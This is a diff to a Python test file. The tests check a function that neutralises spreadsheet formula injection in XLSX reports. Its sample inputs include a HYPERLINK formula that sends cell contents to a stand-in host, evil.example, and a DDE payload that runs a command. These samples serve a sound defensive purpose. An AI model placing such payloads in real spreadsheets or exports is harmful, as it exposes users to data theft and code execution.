@@ -12,7 +12,7 @@ from openpyxl import load_workbook
 
 from segprofile import pipeline
 from segprofile.model.study import Study
-from segprofile.report.xlsx import neutralise
+from segprofile.report.format import neutralise
 from sp_factories import SMALL_STUDY, make_records
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"нажми")'
@@ -45,6 +45,7 @@ def all_strings(wb) -> list[str]:  # type: ignore[no-untyped-def]
 def test_neutralise() -> None:
     assert neutralise("=1+1") == "'=1+1"
     assert neutralise("-5") == "'-5"
+    assert neutralise("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
     assert neutralise("\tx") == "'\tx"
     assert neutralise("Обычный текст") == "Обычный текст"
 
